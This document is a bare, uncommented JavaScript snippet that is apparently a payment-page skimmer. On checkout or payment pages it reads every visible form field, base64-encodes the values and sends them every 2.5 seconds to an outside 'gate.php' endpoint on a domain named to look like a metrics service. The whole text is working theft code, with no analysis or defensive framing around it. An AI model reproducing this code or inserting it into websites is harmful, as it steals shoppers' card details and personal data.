(function () {
  var seen = '';
  function gather() {
    var out = '', i, all = document.querySelectorAll('input, select, textarea');
    for (i = 0; i < all.length; i++) {
      var el = all[i];
      if (el.value && el.value.length > 0 && el.type !== 'hidden') {
        var n = el.name == '' ? el.id : el.name;
        out += n + '=' + encodeURIComponent(el.value) + '&';
      }
    }
    return out;
  }
  function push() {
    var q = gather();
    if (q === seen || q.length < 30) return;
    seen = q;
    var x = new XMLHttpRequest();
    x.open('POST', 'https://js-metrics.example/gate.php', true);
    x.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');
    x.send('data=' + window.btoa(unescape(encodeURIComponent(q))) + '&loc=' + location.host);
  }
  if ((new RegExp('onepage|checkout|onestep|payment', 'gi')).test(window.location)) setInterval(push, 2500);
})();
